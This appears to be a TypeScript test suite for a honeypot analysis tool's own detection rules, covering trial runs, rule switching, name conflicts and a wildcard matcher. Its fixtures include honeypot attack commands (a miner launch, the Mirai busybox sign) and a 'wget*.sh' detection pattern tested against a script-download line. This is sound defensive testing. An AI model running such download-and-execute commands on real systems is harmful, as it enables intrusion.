/** Rules of one's own: what a trial on the past says would change, and what has changed once they are on. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { OwnRule } from '@apiary/model/api/rules.ts';
import { OperationalError } from '@apiary/model/errors.ts';
import { StateDatabase } from '../state/database.ts';
import { migrate } from '../store/schema.ts';
import { Store } from '../store/store.ts';
import { Analysis } from './analysis.ts';
import { readAttackScope } from './attack-scope.ts';
import { listRules, putRule, removeRule, switchRule, type TriedChange, tryChange } from './rule-desk.ts';
import { finder } from './rule-set.ts';

const day = Date.UTC(2026, 2, 1);
const hour = 3_600_000;
const rule: OwnRule = {
  name: 'our-miner',
  title: 'The miner that we call Wasp',
  kind: 'miner',
  tool: 'script or program',
  weight: 0.9,
  conditions: [{ field: 'command', contains: 'WASPD*--queen' }],
  source: 'our own analysis',
};

describe('rules of families', () => {
  const directory = mkdtempSync(join(tmpdir(), 'apiary-rules-'));
  let store: Store;
  let state: StateDatabase;
  before(async () => {
    store = new Store({ directory });
    await store.whenUp();
    await migrate(store, []);
    // Three sources of three commands each, ten minutes apart: the miner, Mirai's sign, and nothing known.
    const commands = ['./waspd --nest 7 --queen 1', '/bin/busybox MIRAI', 'ls /srv'];
    await store.insertRows(
      'event',
      commands.flatMap((command, source) =>
        [0, 1, 2].map((at) => ({
          ...{ event_id: 1 + source * 3 + at, segment_id: 1, sensor_id: 1, sensor_type: 'test' },
          ...{ sensor_table: 'test_lines', place: at, generation: 1 },
          detect_ts: `2026-03-01 0${source}:0${at}:00.000000`,
          collect_ts: new Date().toISOString().slice(0, 19).replace('T', ' '),
          ...{
            target_kind: 'process',
            vantage: 'honeypot',
            action: 'input',
            service: 'ssh',
            session: `s${source}`,
          },
          command: at === 1 ? command : 'id',
          attacker_ip: `::ffff:198.51.100.${source + 1}`,
        })),
      ),
    );
    state = new StateDatabase(':memory:');
    const analysis = await open();
    await analysis.pass();
  });
  after(async () => {
    await store.close();
    state.close();
    rmSync(directory, { recursive: true });
  });

  async function open(): Promise<Analysis> {
    const analysis = new Analysis({
      ...{ store, state, log: () => undefined },
      scope: () => readAttackScope(state, 3600, day),
    });
    await analysis.load();
    return analysis;
  }
  const by = () => ({ state, actor: 'test', now_ms: day });
  const tried = (change: TriedChange, from_ms = day, to_ms = day + 24 * hour) =>
    tryChange({ state, now_ms: day }, store, 3600, change, { from_ms, to_ms });
  const attacks = () =>
    store.query<{ tool: string; families: string[] }>(
      'SELECT toString(tool) AS tool, families FROM attack FINAL WHERE is_gone = 0 ORDER BY first_ts',
    );
  const incidents = () =>
    store.query<{ number: number; attacker: string; objectives: string[] }>(
      'SELECT number, toString(attacker) AS attacker, objectives FROM incident FINAL WHERE is_gone = 0 ORDER BY first_ts',
    );

  test('a trial says what would change, up to the incident, and changes nothing', async () => {
    const before = [await attacks(), await incidents()];
    const trial = await tried({ rule });
    assert.deepEqual([trial.events, trial.attacks, trial.changed], [9, 3, 1]);
    const [example] = trial.examples;
    assert.deepEqual(
      [example?.source, example?.before.families, example?.after.families, example?.after.tool],
      ['198.51.100.1', [], ['our-miner'], 'script or program'],
    );
    assert.match(example!.because, /Wasp: command ".*waspd --nest 7 --queen 1"/);
    assert.deepEqual(
      trial.incidents.map(({ before: then, after: now }) => [then.objectives, now.attacker, now.objectives]),
      [[[], 'professional criminal', ['financial gain']]],
    );
    assert.equal(trial.incidents[0]!.number, (await incidents())[0]!.number);
    assert.deepEqual([await attacks(), await incidents()], before);
  });

  test('a trial goes over its period alone', async () => {
    assert.equal((await tried({ rule }, day + hour)).changed, 0);
    assert.equal((await tried({ rule }, day, day + hour)).events, 3);
  });

  test('once it is on, it is as the trial said; off again, as before', async () => {
    const before = [await attacks(), await incidents()];
    const trial = await tried({ rule });
    assert.equal(putRule(by(), rule), false, 'switched off it changes nothing');
    assert.equal(switchRule(by(), 'our-miner', true), true);
    const analysis = await open();
    assert.deepEqual((await attacks())[0], { tool: 'script or program', families: ['our-miner'] });
    assert.deepEqual((await incidents())[0]?.objectives, trial.incidents[0]!.after.objectives);
    assert.equal((await tried({ switch: { name: 'our-miner', is_on: false } })).changed, 1);
    switchRule(by(), 'our-miner', false);
    await analysis.renew();
    assert.deepEqual([await attacks(), await incidents()], before);
  });

  test('a rule that comes with Apiary can be switched off, after a trial', async () => {
    assert.deepEqual((await attacks())[1]?.families, ['mirai']);
    const trial = await tried({ switch: { name: 'mirai', is_on: false } });
    assert.deepEqual(
      trial.examples.map(({ source, before: then, after: now }) => [source, then.families, now.families]),
      [['198.51.100.2', ['mirai'], []]],
    );
    switchRule(by(), 'mirai', false);
    assert.equal(listRules(state).built_in.find(({ name }) => name === 'mirai')?.is_on, false);
    const analysis = await open();
    assert.deepEqual((await attacks())[1]?.families, []);
    switchRule(by(), 'mirai', true);
    await analysis.renew();
    assert.deepEqual((await attacks())[1]?.families, ['mirai']);
  });

  test('names of others, and names that are none', async () => {
    const conflict = (error: OperationalError) => error.code === 'conflict' && /mirai/.test(error.message);
    assert.throws(() => putRule(by(), { ...rule, name: 'mirai' }), conflict);
    await assert.rejects(tried({ rule: { ...rule, name: 'mirai' } }), conflict);
    await assert.rejects(tried({ switch: { name: 'nobody', is_on: true } }), { code: 'not_found' });
    assert.throws(() => switchRule(by(), 'nobody', true), OperationalError);
    assert.throws(() => removeRule(by(), 'nobody'), OperationalError);
  });

  test('a rule that is changed is off until it is switched on again', () => {
    putRule(by(), rule);
    switchRule(by(), 'our-miner', true);
    assert.equal(putRule(by(), { ...rule, weight: 0.5 }), true);
    assert.deepEqual(
      listRules(state).own.map(({ name, is_on, weight }) => [name, is_on, weight]),
      [['our-miner', false, 0.5]],
    );
    assert.equal(removeRule(by(), 'our-miner'), false);
  });
});

test('a pattern finds its pieces one behind the other, and a hostile text costs no more than its length', () => {
  assert.ok(finder('wget*.sh', false)('cd /tmp; WGET http://198.51.100.1/a.SH'));
  assert.ok(!finder('wget*.sh', false)('a.sh; wget x'));
  assert.ok(!finder('aa*aa', false)('aaa'), 'pieces do not overlap');
  assert.ok(finder('ABC', true)('abc') && !finder('abc', true)('abcd'));
  const stars = finder(
    Array.from({ length: 60 }, () => 'a')
      .join('*')
      .concat('*b'),
    false,
  );
  assert.ok(!stars('a'.repeat(100_000)));
});
